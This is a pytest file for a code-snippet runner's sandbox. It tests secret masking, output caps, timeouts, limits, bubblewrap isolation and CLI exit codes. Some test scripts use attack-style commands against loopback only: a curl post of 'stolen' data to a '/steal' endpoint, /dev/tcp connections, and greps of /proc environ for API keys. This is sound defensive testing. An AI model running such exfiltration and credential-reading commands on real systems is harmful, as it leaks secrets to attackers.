"""The sandbox's parts: masking, capped output, timeouts and limits, the cell and its forwarders, the
fallback without kernel isolation (said once, or a failure with ``sandbox = "required"``), and the
real ``snippetgen run`` exit codes. The hostile corpus (tests/hostile_examples/) runs in tests/test_sandbox_hostile.py."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest
from conftest import TINY_ECHO_SPEC

from snippetgen.check import run_check
from snippetgen.errors import UsageError
from snippetgen.project import Project
from snippetgen.runner import isolation
from snippetgen.runner.limits import MAX_TIMEOUT, Limits, timeout_problem
from snippetgen.runner.sandbox import read_capped
from snippetgen.secrets import MASK, Masker, masked_values

pytest_plugins = ["pytester"]

SNIPPETGEN = Path(sys.executable).parent / "snippetgen"
ROOT = Path(__file__).resolve().parents[1]
SPEC = TINY_ECHO_SPEC
GOOD = {
    "py": "import requests\nr = requests.post({{ baseUrl | lit }} + '/echo', json={'prompt': 'hi'}, timeout=10)\n"
    "r.raise_for_status()\nprint(r.json())\n",
    "js": "const r = await fetch({{ baseUrl | lit }} + '/echo', {method: 'POST', headers: "
    "{'Content-Type': 'application/json'}, body: JSON.stringify({prompt: 'hi'})});\n"
    "if (!r.ok) process.exit(1);\nconsole.log(await r.json());\n",
    "curl": "curl -sS --fail-with-body {{ (baseUrl ~ '/echo') | lit }} -H 'Content-Type: application/json' "
    '--data \'{"prompt": "hi"}\'\n',
}


def write_project(
    root: Path, templates: dict[str, str], *, settings: str = "", test: dict | None = None
) -> None:
    (root / "shared" / "openapi").mkdir(parents=True, exist_ok=True)
    (root / "shared" / "openapi" / "tiny.yaml").write_text(SPEC)
    (root / "docs").mkdir(exist_ok=True)
    folder = root / "shared" / "snippets" / "tiny" / "echo"
    folder.mkdir(parents=True, exist_ok=True)
    config = {
        "title": "Echo",
        "operations": ["tiny:echo"],
        "payload": {"baseUrl": "https://api.tiny.test/v1", "apiKeyEnv": "TINY_AUTH"},
        **({"test": test} if test else {}),
    }
    (folder / "config.json").write_text(json.dumps(config, indent=2))
    for stale in folder.glob("*.jinja"):
        stale.unlink()
    for lang, source in templates.items():
        (folder / f"{lang}.jinja").write_text(source)
    (root / "pyproject.toml").write_text(f"[tool.snippetgen]\n{settings}")


needs_isolation = pytest.mark.skipif(
    not isolation.support().available, reason=f"no kernel isolation here: {isolation.support().why}"
)


# --- masking -----------------------------------------------------------------------------------------


def test_masking_hides_secret_looking_variables_and_named_key_variables() -> None:
    environ = {
        "OPENAI_API_KEY": "sk-live-0123456789abcdef",
        "GH_TOKEN": "ghp_abcdefghijklmnop",
        "AWS_SECRET": "wJalrXUtnFEMI/K7MDENG",
        "DB_PASSWORD_FILE": "correct-horse-battery",
        "AIML_AUTH": "aiml-abcdef-123456",  # no secret-looking name: masked because a snippet names it
        "SHORT_KEY": "abc12",  # too short to mask without garbling output
        "MOCK_API_KEY": "mock-test-key",  # an obvious placeholder
        "PLACEHOLDER_KEY": "<YOUR_API_KEY>",
        "FLAG_TOKEN": "true",
        "HOME": "/home/someone-with-a-long-name",
    }
    masker = Masker.from_env(["AIML_AUTH"], environ)
    text = " ".join(environ.values())
    masked = masker.mask(text)
    for name in ("OPENAI_API_KEY", "GH_TOKEN", "AWS_SECRET", "DB_PASSWORD_FILE", "AIML_AUTH"):
        assert environ[name] not in masked
    for name in ("SHORT_KEY", "MOCK_API_KEY", "PLACEHOLDER_KEY", "FLAG_TOKEN", "HOME"):
        assert environ[name] in masked
    assert masked.count(MASK) == 5
    assert Masker.from_env([], {}).mask(text) == text


def test_masking_replaces_the_longest_value_first_and_walks_data() -> None:
    masker = Masker(["secret-value-1", "secret-value-1-and-more"])
    assert masker.mask("a secret-value-1-and-more b secret-value-1") == f"a {MASK} b {MASK}"
    data = {"path": "/v1?key=secret-value-1", "errors": [{"message": "bad secret-value-1"}], "status": 400}
    assert masker.mask_data(data) == {
        "path": f"/v1?key={MASK}",
        "errors": [{"message": f"bad {MASK}"}],
        "status": 400,
    }
    assert masked_values({"A_KEY": "x" * 8, "B_KEY": "y" * 20}) == ["y" * 20]  # "xxxxxxxx" is a placeholder


# --- captured output, timeouts, limits ------------------------------------------------------------------


def test_read_capped_keeps_head_and_tail_and_says_how_much_was_cut(tmp_path: Path) -> None:
    small = tmp_path / "small"
    small.write_bytes(b"hello\n")
    assert read_capped(small, 100) == "hello\n"
    big = tmp_path / "big"
    big.write_bytes(b"H" * 5000 + b"M" * 10_000 + b"T" * 5000)
    text = read_capped(big, 1000)
    head, cut, tail = text.split("\n")
    assert head == "H" * 750 and tail == "T" * 250
    assert cut == f"... {20_000 - 1000} bytes cut ..."
    assert read_capped(tmp_path / "missing") == ""


def test_the_cells_capture_has_the_same_shape() -> None:
    capture = isolation._relay_module().Capture(1000)
    for _ in range(20):
        capture.add(b"H" * 250 + b"M" * 500 + b"T" * 250)
    head, cut, tail = capture.text().split("\n")
    assert head.startswith("H" * 250) and len(head) == 750 and tail.endswith("T" * 250) and len(tail) == 250
    assert cut == f"... {20_000 - 1000} bytes cut ..."


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        (30, None),
        (0.5, None),
        (MAX_TIMEOUT, None),
        (float("inf"), "must be a finite number of seconds (at most 600), not infinity"),
        (float("nan"), "not nan"),
        (0, "more than 0"),
        (-1, "more than 0"),
        (601, "at most 600 seconds, not 601"),
        (True, "must be a number of seconds, not True"),
        ("10", "must be a number of seconds, not '10'"),
    ],
)
def test_timeout_problem(value: object, problem: str | None) -> None:
    found = timeout_problem(value)
    assert (found is None) if problem is None else (found is not None and problem in found)


def test_check_reports_a_bad_timeout_at_its_line(tmp_path: Path) -> None:
    write_project(tmp_path, {"py": GOOD["py"]})
    config = tmp_path / "shared" / "snippets" / "tiny" / "echo" / "config.json"
    for raw, code in (
        ("1e999", "bad-timeout"),
        ("601", "bad-timeout"),
        ("0", "config-schema"),
        ("-1", "config-schema"),
    ):
        text = json.dumps(json.loads(config.read_text()) | {"test": {"timeout": 7}}, indent=2)
        config.write_text(text.replace('"timeout": 7', f'"timeout": {raw}'))
        line = config.read_text().splitlines().index(f'    "timeout": {raw}') + 1
        problems = [p for p in run_check(tmp_path) if "timeout" in p.message]
        assert [(p.code, p.location.line) for p in problems] == [(code, line)], (raw, problems)


def test_limits_come_from_the_project(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        "[tool.snippetgen]\nmax_memory_mb = 300\nmax_processes = 20\nmax_output_bytes = 4096\n"
    )
    assert Limits.of(Project.load(tmp_path)) == Limits(memory=300 * 1024 * 1024, processes=20, output=4096)
    assert Limits.of(Project.load(tmp_path / ".." / tmp_path.name)).processes == 20
    (tmp_path / "pyproject.toml").write_text("[tool.snippetgen]\nmax_processes = 0\n")
    with pytest.raises(UsageError, match="max_processes must be a positive whole number of processes"):
        Project.load(tmp_path)


# --- the cell and its forwarders --------------------------------------------------------------------------


class Echo:
    """A loopback TCP server that answers each connection with everything it read, upper-cased."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                data = b""
                while chunk := conn.recv(65536):
                    data += chunk
                conn.sendall(data.upper())

    def close(self) -> None:
        self.server.close()


def test_the_outside_relay_forwards_whole_streams_and_half_closes(tmp_path: Path) -> None:
    echo = Echo()
    relay = isolation._OutsideRelay(tmp_path, [f"127.0.0.1:{echo.port}"])
    try:
        payload = os.urandom(3 * 1024 * 1024).hex().encode()[: 5 * 1024 * 1024]
        for _ in range(3):
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            client.connect(str(tmp_path / str(echo.port)))
            sender = threading.Thread(
                target=lambda c=client: (c.sendall(payload), c.shutdown(socket.SHUT_WR))
            )
            sender.start()
            received = b""
            while chunk := client.recv(1 << 20):
                received += chunk
            sender.join()
            client.close()
            assert received == payload.upper()
    finally:
        relay.close()
        echo.close()


@needs_isolation
def test_a_cell_runs_an_example_in_its_own_world_and_leaves_nothing_behind(tmp_path: Path) -> None:
    echo = Echo()
    marker = f"sgx{uuid.uuid4().hex[:8]}"
    cell = isolation.Cell(tmp_path / "cell", [f"127.0.0.1:{echo.port}"], limits=Limits(output=4096))
    try:
        work = cell.live / "one"
        work.mkdir()
        script = textwrap.dedent(f"""\
            echo "uid=$(id -u) host=$(hostname) pid1=$(tr '\\0' ' ' < /proc/1/environ)."
            echo "root: $(ls / | tr '\\n' ' ')"
            exec 3<>/dev/tcp/127.0.0.1/{echo.port}; printf ping >&3; exec 3>&-
            bash -c 'sleep 300; exit 0' {marker} &
            setsid bash -c 'sleep 300; exit 0' {marker} &
            touch /tmp/{marker}
            head -c 100000 /dev/zero | tr '\\0' x
            """)
        (work / "example.sh").write_text(script)
        process, hits = cell.run(["bash", "example.sh"], work, {"PATH": "/usr/bin:/bin"}, 30)
        assert process.returncode == 0, process.stderr
        first = process.stdout.splitlines()[0]
        assert " host=sandbox pid1=." in first
        if isolation.support().privileged:
            assert not first.startswith("uid=0 ")  # examples never run as root
        root = set(process.stdout.splitlines()[1].removeprefix("root: ").split())
        assert {"etc", "proc", "run", "sandbox", "tmp", "usr"} <= root
        assert not root & {"home", "mnt", "opt", "srv", "var", "media"}, root
        assert "bytes cut" in process.stdout and len(process.stdout) < 4200
        assert hits == []
        time.sleep(0.5)
        assert subprocess.run(["pgrep", "-f", marker], capture_output=True).returncode == 1, (
            "a process survived"
        )
        # /tmp is emptied after each example (what stays is only the mount point of a runtime that
        # lives under /tmp, e.g. a checkout and its virtualenv there: its top folder, never a file)
        (work / "two.sh").write_text(f"ls /tmp; test ! -e /tmp/{marker}\n")
        process, _ = cell.run(["bash", "two.sh"], work, {"PATH": "/usr/bin:/bin"}, 30)
        runtimes_under_tmp = {p.parts[2] for p in (ROOT, Path(sys.prefix)) if p.parts[1:2] == ("tmp",)}
        assert process.returncode == 0 and set(process.stdout.split()) <= runtimes_under_tmp
        # a timeout kills the example and everything it started
        (work / "three.sh").write_text(f"bash -c 'sleep 300; exit 0' {marker} & sleep 300\n")
        process, _ = cell.run(["bash", "three.sh"], work, {"PATH": "/usr/bin:/bin"}, 1)
        assert process.timed_out and process.returncode is None
        assert subprocess.run(["pgrep", "-f", marker], capture_output=True).returncode == 1
    finally:
        cell.close()
        echo.close()
    assert not cell.alive


@needs_isolation
def test_a_cell_started_from_a_thread_outlives_the_thread(tmp_path: Path) -> None:
    """--die-with-parent follows the thread that started bwrap: cells are started from one that lasts."""
    cells: list[isolation.Cell] = []
    thread = threading.Thread(
        target=lambda: cells.append(isolation.Cell(tmp_path / "c", [], limits=Limits()))
    )
    thread.start()
    thread.join()
    try:
        time.sleep(0.3)
        work = cells[0].live / "w"
        work.mkdir()
        process, _ = cells[0].run(["true"], work, {"PATH": "/usr/bin:/bin"}, 10)
        assert process.returncode == 0
    finally:
        cells[0].close()


# --- without kernel isolation -----------------------------------------------------------------------------


def test_without_bwrap_examples_run_guarded_and_the_session_says_so_once(pytester, monkeypatch) -> None:
    monkeypatch.setenv(isolation.BWRAP_VARIABLE, "/nonexistent/bwrap")
    write_project(pytester.path, GOOD)
    pytester.makeini("[pytest]\nsnippetgen = true\ntestpaths = shared/snippets\n")
    result = pytester.runpytest_subprocess("-p", "no:cacheprovider", "-n", "2")
    result.assert_outcomes(passed=3)
    said = "examples run without kernel isolation: bubblewrap is not installed (SNIPPETGEN_BWRAP=/nonexistent/bwrap)"
    assert result.stdout.str().count(said) == 1, result.stdout.str()


def test_without_bwrap_sandbox_required_fails_every_example_saying_why(pytester, monkeypatch) -> None:
    monkeypatch.setenv(isolation.BWRAP_VARIABLE, "/nonexistent/bwrap")
    write_project(pytester.path, GOOD, settings='sandbox = "required"\n')
    pytester.makeini("[pytest]\nsnippetgen = true\ntestpaths = shared/snippets\n")
    result = pytester.runpytest_subprocess("-p", "no:cacheprovider", "-p", "no:xdist")
    result.assert_outcomes(failed=3)
    result.stdout.fnmatch_lines(
        [
            "*example*tiny.echo::py could not run: examples must run in kernel isolation*bubblewrap is not installed*",
            '*hint:*or set sandbox = "auto"*',
            '*snippetgen: examples fail: sandbox = "required" but bubblewrap is not installed*',
        ]
    )


def test_snippetgen_run_without_bwrap_says_so_or_refuses(tmp_path: Path) -> None:
    write_project(tmp_path, {"py": GOOD["py"]})
    env = {**os.environ, isolation.BWRAP_VARIABLE: "/nonexistent/bwrap"}
    run = subprocess.run(
        [str(SNIPPETGEN), "run", "tiny.echo", "--root", str(tmp_path)],
        capture_output=True,
        text=True,
        env=env,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert run.stderr.count("examples run without kernel isolation: bubblewrap is not installed") == 1
    write_project(tmp_path, {"py": GOOD["py"]}, settings='sandbox = "required"\n')
    run = subprocess.run(
        [str(SNIPPETGEN), "run", "tiny.echo", "--root", str(tmp_path)],
        capture_output=True,
        text=True,
        env=env,
    )
    assert run.returncode == 2
    assert (
        'examples must run in kernel isolation (sandbox = "required"), but bubblewrap is not installed'
        in run.stderr
    )
    assert "Traceback" not in run.stderr


@needs_isolation
def test_snippetgen_run_exit_codes_with_the_real_cli(tmp_path: Path) -> None:
    write_project(tmp_path, GOOD)
    ok = subprocess.run(
        [str(SNIPPETGEN), "run", "tiny.echo", "--root", str(tmp_path)], capture_output=True, text=True
    )
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "3 of 3 passed" in ok.stdout and "without kernel isolation" not in ok.stderr
    write_project(tmp_path, {**GOOD, "js": "process.exit(3);\n"})
    failed = subprocess.run(
        [str(SNIPPETGEN), "run", "tiny.echo", "--root", str(tmp_path)], capture_output=True, text=True
    )
    assert failed.returncode == 1 and "exited with status 3" in failed.stdout
    unknown = subprocess.run(
        [str(SNIPPETGEN), "run", "tiny.ecko", "--root", str(tmp_path)], capture_output=True, text=True
    )
    assert unknown.returncode == 2 and "unknown snippet tiny.ecko" in unknown.stderr


def test_the_hostile_checks_can_fail_without_isolation(tmp_path: Path) -> None:
    """A control for tests/test_sandbox_hostile.py: with sandbox = "off" the same kind of checks see
    the leaks (so they are not vacuous there), and masking still hides the keys from the output.
    Loopback and the test's own folders only."""
    received: list[bytes] = []
    outside = socket.create_server(("127.0.0.1", 0))
    outside.settimeout(10)
    port = outside.getsockname()[1]

    def serve() -> None:
        try:
            conn, _ = outside.accept()
            received.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    threading.Thread(target=serve, daemon=True).start()
    home = tmp_path / "home"
    home.mkdir()
    key = "sk-control-0123456789abcdef"
    curl = (
        f"curl -sS --max-time 5 http://127.0.0.1:{port}/steal --data stolen || true\n"
        f"echo leaked > {home}/marker\n"
        "tr '\\0' '\\n' < /proc/$PPID/environ | grep -E '^(CONTROL_API_KEY|TINY_AUTH)='\n"
    )
    root = tmp_path / "project"
    write_project(root, {"curl": curl}, settings='sandbox = "off"\n')
    auth = "tiny-auth-not-a-key-shape-42"  # no secret-looking name: masked because the snippet names it
    env = {**os.environ, "CONTROL_API_KEY": key, "TINY_AUTH": auth, "HOME": str(home)}
    run = subprocess.run(
        [str(SNIPPETGEN), "run", "tiny.echo", "--root", str(root)], capture_output=True, text=True, env=env
    )
    outside.close()
    assert received and b"steal" in received[0]
    assert (home / "marker").read_text() == "leaked\n"
    assert f"CONTROL_API_KEY={MASK}" in run.stdout and f"TINY_AUTH={MASK}" in run.stdout, run.stdout
    assert key not in run.stdout + run.stderr and auth not in run.stdout + run.stderr
